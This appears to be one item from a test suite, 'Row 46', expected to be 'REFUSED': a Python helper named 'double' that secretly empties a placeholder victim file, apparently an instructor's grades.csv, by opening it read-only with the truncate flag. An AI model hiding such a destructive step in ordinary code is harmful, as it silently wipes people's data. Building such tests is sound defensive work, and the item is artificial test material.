"""Row 46: empty a file of the instructor's by opening it only to read.

outcome: REFUSED
says: grades.csv
"""

import os


def double(x):
    os.close(os.open("@VICTIM@", os.O_RDONLY | os.O_TRUNC))
    return 2 * x
